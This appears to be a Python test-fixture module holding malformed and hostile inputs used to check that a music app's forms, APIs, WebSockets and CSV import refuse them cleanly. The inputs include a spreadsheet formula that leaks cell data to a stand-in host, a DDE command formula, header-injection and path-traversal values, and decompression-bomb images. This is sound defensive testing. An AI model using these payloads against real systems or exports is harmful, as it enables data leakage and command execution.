"""The bad-input corpus: malformed input of every kind the entry points meet, in one
place. tests/system/test_bad_input_corpus.py sends it to every form, API endpoint, WebSocket,
CSV import and the Spotify adapter; each must refuse it clearly (a 4xx or a message,
never a 500) and store nothing."""

import json
import random

import numpy as np

from tests.support.images import decompression_bomb_png, encode

HUGE = "x" * 100_000

# Text no field of ours accepts; ``empty`` only where the field is required.
BAD_TEXT = {
    "empty": "",
    "huge": HUGE,
    "null byte": "abc\x00def",
}

# Bodies sent as application/json that are not JSON a parser should accept.
MALFORMED_JSON = {
    "truncated": b'{"name": ',
    "trailing comma": b'{"value": 1,}',
    "single quotes": b"{'value': 1}",
    "NaN": b'{"value": NaN}',
    "not UTF-8": b'\xff\xfe{"value": 1}',
    "deeply nested": b"[" * 100_000,
    "binary": bytes(range(256)),
}

# Valid JSON that is not the object every write endpoint expects.
NOT_AN_OBJECT = {"list": [1, 2], "string": "hello", "number": 7, "null": None}

# Content types the JSON endpoints do not speak: (content type, body).
WRONG_CONTENT_TYPES = {
    "text/plain": ("text/plain", b'{"value": 1}'),
    "xml": ("application/xml", b"<value>1</value>"),
    "form-encoded": ("application/x-www-form-urlencoded", b"value=1"),
}

# Raw bodies posted to HTML forms instead of a proper form: (content type, body).
RAW_FORM_BODIES = {
    "malformed multipart": ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: garbage"),
    "multipart without boundary": ("multipart/form-data", b"garbage"),
    "JSON instead of a form": ("application/json", b'{"username": "alice"}'),
    "binary": ("application/x-www-form-urlencoded", bytes(range(256))),
    "too many fields": ("application/x-www-form-urlencoded", "&".join(f"f{i}=1" for i in range(1100)).encode()),
}

# Object ids in URLs that name nothing: the routes take UUIDs (detections) or numbers.
BAD_IDS = {
    "not a UUID or number": "not-an-id",
    "unknown UUID": "00000000-0000-4000-8000-000000000000",
    "huge number": "9" * 30,
    "negative number": "-1",
    "zero": "0",
}

# Messages for /ws/events/, which takes nothing but {"type": "ping"}:
# (text, bytes) as WebsocketCommunicator.send_to takes them.
EVENTS_MESSAGES = {
    "non-JSON text": ("hello", None),
    "JSON list": ("[1, 2]", None),
    "JSON string": ('"ping"', None),
    "unknown type": ('{"type": "subscribe", "group": "user-1"}', None),
    "deeply nested": ("[" * 100_000, None),
    "oversized": (json.dumps({"type": "ping", "pad": HUGE * 10}), None),
    "binary garbage": (None, bytes(range(256))),
}


def _random_bytes(size: int, seed: int = 8) -> bytes:
    return random.Random(seed).randbytes(size)


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose header claims ``width`` x ``height`` pixels."""
    real = encode(np.zeros((8, 8, 3), dtype=np.uint8))
    marker = real.index(b"\xff\xc0")
    return real[: marker + 5] + height.to_bytes(2, "big") + width.to_bytes(2, "big") + real[marker + 9 :]


# Binary frames for /ws/live/, refused by the consumer before any analysis:
# name -> (frame, error code).
LIVE_FRAMES_REFUSED = {
    "binary garbage": (_random_bytes(2000), "not_jpeg"),
    "PNG": (decompression_bomb_png(64, 64), "not_jpeg"),
    "one byte": (b"\xff", "not_jpeg"),
}

# Frames that look like JPEG to the consumer but that the worker cannot read.
LIVE_FRAMES_UNREADABLE = {
    "JPEG marker then garbage": b"\xff\xd8\xff" + _random_bytes(3000),
    "JPEG marker only": b"\xff\xd8\xff",
    "dimensions of a decompression bomb": _jpeg_claiming(60_000, 60_000),
}

# CSV files no import can use: name -> (bytes, words of the error).
CSV_UNUSABLE = {
    "empty": (b"", "empty"),
    "blank first line": (b"\ntitle,artist\nSong,Band\n", "empty or starts with a blank line"),
    "binary": (_random_bytes(4000), "not a CSV text file"),
    "PNG picture": (decompression_bomb_png(64, 64), "not a CSV text file"),
    "UTF-16 without a byte-order mark": ("title,artist\nSong,Band\n".encode("utf-16-le"), "not a CSV text file"),
    "no usable columns": (b"id,score\n1,2\n", "No usable columns"),
}

# CSV files in encodings other than UTF-8: read correctly, not refused or mangled.
CSV_ENCODINGS = {
    "Windows-1252": "cp1252",
    "UTF-16 with a byte-order mark": "utf-16",
    "UTF-8 with a byte-order mark": "utf-8-sig",
}

# One bad value in a row of named columns: column -> [(value, reason in the report)].
CSV_BAD_CELLS = {
    "energy": [("loud", "bad number in energy"), ("inf", "bad number in energy"), ("1e999", "bad number in energy"),
               ("-0.1", "energy outside"), ("1,5", "bad number in energy")],
    "year": [("19x9", "bad number in year")],
    "popularity": [("101", "popularity outside"), ("-1", "popularity outside")],
    "duration_ms": [("soon", "bad number in duration"), ("-5", "duration outside")],
    "spotify_id": [("spotify:track:short", "bad Spotify id")],
    "title": [("a\x00b", "binary data")],
}  # fmt: skip

# Things pasted where a Spotify playlist URL, URI or id belongs.
BAD_PLAYLIST_REFERENCES = {
    "empty": "",
    "blank": "   ",
    "a track URL": "https://open.spotify.com/track/37i9dQZF1DXcBWIGoYBM5M",
    "another site": "https://example.com/playlist/37i9dQZF1DXcBWIGoYBM5M",
    "id one character short": "37i9dQZF1DXcBWIGoYBM5",
    "id one character long": "37i9dQZF1DXcBWIGoYBM5MX",
    "id with punctuation": "37i9dQZF1DX-BWIGoYBM5M",
    "path traversal": "spotify:playlist:../../v1/me/37i9dQZF",
    "newline injection": "37i9dQZF1DXcBWIGoYBM5M\nHost: evil",
    "javascript URL": "javascript:alert(1)",
    "huge": HUGE,
}

# WebSocket paths no consumer serves: each is closed cleanly (4404), never an error.
WEBSOCKET_UNKNOWN_PATHS = {
    "unknown": "/ws/unknown/",
    "root": "/",
    "live without its slash": "/ws/live",
    "below live": "/ws/live/extra/",
    "an HTTP page": "/accounts/login/",
    "percent-encoded NUL": "/ws/%00/",
    "very long": "/ws/" + "a" * 10_000 + "/",
    "unicode": "/ws/événements/",
}

# Origin headers a socket to http://localhost:8000 must refuse: (origin or None).
WEBSOCKET_FOREIGN_ORIGINS = {
    "another site": "http://evil.example",
    "same host, another port": "http://localhost:9999",
    "same host, https default port": "https://localhost",
    "a look-alike domain": "http://localhost.evil.example:8000",
    "opaque (sandboxed iframe)": "null",
    "no scheme": "localhost:8000",
    "a file page": "file://",
    "garbage": "::::",
    "port out of range": "http://localhost:99999",
    "none at all": None,
}

# CSV files at the reader's limits: name -> (bytes, words of the refusal, or None when
# the file is read: its good rows imported and the rest reported; REPORTED when a broken
# quote leaves nothing after it readable, which is then reported rather than guessed at).
REPORTED = "reported"
CSV_AT_LIMITS = {
    "a 1 MB header line": (b"title,artist," + b"x" * 1_000_000 + b"\nSong,Band,1\n", "longer than 65,536"),
    "a 200 KB quoted header field": (b'title,artist,"' + b"x" * 200_000 + b'"\nSong,Band,1\n', "longer than 65,536"),
    "5 MB without a line break": (b"title,artist" + b",x" * 2_500_000, "longer than 65,536"),
    "an unclosed quote in the header": (b'title,artist,"notes\nSong,Band,1\n', None),
    "10,000 columns": (
        b"title,artist," + b",".join(b"c%d" % i for i in range(10_000)) + b"\nSong,Band" + b",1" * 10_000 + b"\n",
        None,
    ),
    "10,000 columns none usable": (b",".join(b"c%d" % i for i in range(10_000)) + b"\n1\n", "and 9980 more"),
    "a 200 KB cell": (b"title,artist\n" + b"A" * 200_000 + b",Band\nSong,Band\n", None),
    "a 200 KB quoted cell over many lines": (b'title,artist\n"' + b"A\n" * 100_000 + b'",Band\nSong,Band\n', REPORTED),
    "a row of 5,000 columns": (b"title,artist\n" + b"x," * 5_000 + b"\nSong,Band\n", None),
}

# Titles a spreadsheet would run as formulas: stored as given, neutralised on export.
FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=7*8",
    "\r=9/6",
]
